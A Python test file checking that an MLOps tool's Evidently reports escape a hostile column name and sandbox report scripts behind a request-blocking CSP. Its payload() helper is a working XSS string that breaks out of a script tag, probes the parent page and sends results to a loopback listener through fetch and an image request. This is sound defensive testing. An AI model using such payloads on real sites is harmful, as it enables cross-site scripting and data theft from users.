"""Data is never code: a hostile column name in an Evidently report stays text.

The core re-encodes the report's data so `</script>` cannot close its element; the page
shows the report in a sandboxed frame without same-origin whose CSP forbids requests, so
even a script that runs there cannot read the panel or call anyone. Both layers are tested
on their own in a real browser, against a listener on loopback that must hear nothing.
"""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from mlops_core.errors import InvalidInput
from mlops_core.evidence.drift import DriftOptions, evidently_report
from mlops_core.evidence.profiling import evidently_summary
from mlops_core.evidence.report_safety import DATA_WARNING, REPORT_CSP, harden_report
from tests.browser import chromium, wait_for_app
from tests.servers import streamlit_app


def payload(port: int) -> str:
    """Script that reports what it could reach: the panel's page, and a listener."""
    return (
        "</script><script>var out=[];"
        "try{out.push('parent:'+parent.location.href)}catch(e){out.push('parent-blocked')}"
        "try{out.push('doc:'+parent.document.body.innerText.length)}catch(e){out.push('doc-blocked')}"
        f"fetch('http://127.0.0.1:{port}/fetch?'+out.join(',')).catch(function(){{}});"
        f"new Image().src='http://127.0.0.1:{port}/img';"
        f"try{{top.location='http://127.0.0.1:{port}/top'}}catch(e){{out.push('top-blocked')}}"
        "document.title='payload-ran:'+out.join(',');</script><script>"
    )


def hostile_frames(column: str) -> tuple[pd.DataFrame, pd.DataFrame]:
    rng = np.random.default_rng(0)
    reference = pd.DataFrame({"income": rng.normal(0, 1, 500), column: rng.choice(["a", "b"], 500)})
    current = pd.DataFrame(
        {"income": rng.normal(1, 1, 500), column: rng.choice(["a", column], 500)}
    )
    return reference, current


def _data_blocks(html: str) -> list[object]:
    decoder = json.JSONDecoder()
    return [
        decoder.raw_decode(html, m.end())[0]
        for m in re.finditer(r"var (?:additional_graphs_)?metric_[0-9a-f]{32} = ", html)
    ]


def test_a_script_in_a_column_name_cannot_close_the_reports_script_element() -> None:
    column = payload(9)
    reference, current = hostile_frames(column)
    report = evidently_report(reference, current, DriftOptions(), sample_size=500).html
    # Only the report's own script elements end; the payload's `</script>` is escaped data.
    assert "payload-ran" in report
    assert column not in report
    assert report.count("</script>") == 4
    assert column in json.dumps(_data_blocks(report))
    assert REPORT_CSP in report and DATA_WARNING in report


def test_the_data_profile_report_is_hardened_too() -> None:
    column = payload(9)
    reference, current = hostile_frames(column)
    html = evidently_summary(current, reference, sample_size=500)["html"]
    assert column not in html and REPORT_CSP in html


def test_a_report_whose_data_cannot_be_found_is_refused() -> None:
    with pytest.raises(InvalidInput, match="no data block"):
        harden_report("<html><head></head><body><script>alert(1)</script></body></html>")


@pytest.fixture
def listener() -> Iterator[tuple[int, list[str]]]:
    heard: list[str] = []

    class Record(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Record)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1], heard
    server.shutdown()


def _report_title(page, base: str) -> str:
    page.goto(base)
    wait_for_app(page)
    page.wait_for_timeout(3000)
    titles = [frame.title() for frame in page.frames if frame.parent_frame is not None]
    return " | ".join(titles)


def _page_with_script(port: int, csp: bool) -> str:
    meta = f'<meta http-equiv="Content-Security-Policy" content="{REPORT_CSP}">' if csp else ""
    return f"<html><head>{meta}</head><body><script>{payload(port)}</script></body></html>"


@pytest.mark.browser
def test_in_the_browser_report_script_reaches_neither_the_panel_nor_the_network(
    tmp_path: Path, listener: tuple[int, list[str]]
) -> None:
    port, heard = listener
    reference, current = hostile_frames(payload(port))
    cases = {
        # The real report: the payload never runs.
        "hardened": evidently_report(reference, current, sample_size=500).html,
        # A script that runs anyway: the sandbox keeps it from the panel, the CSP off the network.
        "script-with-csp": _page_with_script(port, csp=True),
        # The control: without the CSP the listener hears it, so silence above means something.
        "script-without-csp": _page_with_script(port, csp=False),
    }
    seen: dict[str, tuple[str, list[str]]] = {}
    with chromium() as browser:
        for name, html in cases.items():
            report = tmp_path / f"{name}.html"
            report.write_text(html)
            with streamlit_app({"REPORT_FILE": str(report)}, "tests/apps/report_frame.py") as base:
                page = browser.new_page()
                title = _report_title(page, base)
                assert page.url.rstrip("/") == base.rstrip("/"), name
                assert "panel-secret-marker" in page.get_by_test_id("stMain").inner_text()
                page.close()
            seen[name] = (title, list(heard))
            heard.clear()
    assert "payload-ran" not in seen["hardened"][0] and seen["hardened"][1] == []
    assert "payload-ran:parent-blocked,doc-blocked" in seen["script-with-csp"][0]
    assert seen["script-with-csp"][1] == []
    assert "/fetch?parent-blocked,doc-blocked" in seen["script-without-csp"][1]
